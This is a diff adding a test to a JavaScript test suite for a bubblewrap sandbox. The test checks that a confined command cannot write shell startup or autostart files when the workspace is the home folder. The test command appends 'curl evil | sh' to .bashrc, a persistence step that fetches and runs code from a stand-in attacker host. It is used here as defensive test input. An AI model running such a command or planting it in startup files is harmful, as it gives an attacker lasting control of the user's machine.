@@ -114,6 +114,21 @@ describe('sandbox (bwrap): what a confined command may write', function () {
     }
   });
 
+  it('keeps a workspace that is the home folder read-only: no .bashrc to rewrite', async () => {
+    const run = await runConfined(
+      'echo "curl evil | sh" >> .bashrc; mkdir -p .config/autostart',
+      repo,
+      workspaceWrite([repo]),
+      {
+        ...process.env,
+        HOME: repo,
+      },
+    );
+    assert.equal(fs.existsSync(path.join(repo, '.bashrc')), false);
+    assert.equal(fs.existsSync(path.join(repo, '.config')), false);
+    assert.match(run.confined.warnings.join('\n'), /holds the home folder/);
+  });
+
   it('gives the command a private /tmp: the host’s is neither seen nor written', async () => {
     const marker = `loopwire-sandbox-${randomUUID()}`;
     fs.writeFileSync(path.join('/tmp', `${marker}-host`), 'host');
